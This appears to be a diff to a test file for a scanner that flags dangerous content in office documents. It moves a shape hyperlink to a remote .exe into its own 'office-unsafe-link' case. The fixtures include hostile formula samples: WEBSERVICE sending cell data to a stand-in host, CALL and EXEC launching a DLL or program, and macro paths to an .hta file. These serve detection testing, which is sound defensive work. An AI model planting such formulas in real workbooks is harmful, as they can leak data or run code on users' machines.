@@ -275,13 +275,18 @@ test.each<[string, string, Buffer, string]>([
     '<x:FmlaLink>WEBSERVICE("https://host.example/"&amp;A1)</x:FmlaLink>',
     '<x:FmlaRange>CALL("a.dll","b","J")</x:FmlaRange>',
     '<formControlPr fmlaTxbx="EXEC(&quot;a.exe&quot;)"/>',
-    '<xdr:sp textlink="HYPERLINK(&quot;file://host.example/a.exe&quot;)"/>',
   ].map((control): [string, string, Buffer, string] => [
     'a control with a formula that calls out',
     'form.xlsx',
     workbook(control),
     'office-dangerous-formula',
   ]),
+  [
+    'a shape with a formula that links to a program',
+    'form.xlsx',
+    workbook('<xdr:sp textlink="HYPERLINK(&quot;file://host.example/a.exe&quot;)"/>'),
+    'office-unsafe-link',
+  ],
   ...[
     ' script:macro-name="application:Template.Correspondence.Main" xlink:href="file:///a.hta"',
     ' script:macro-name="application:Template.Correspondence.Main/../Standard"',
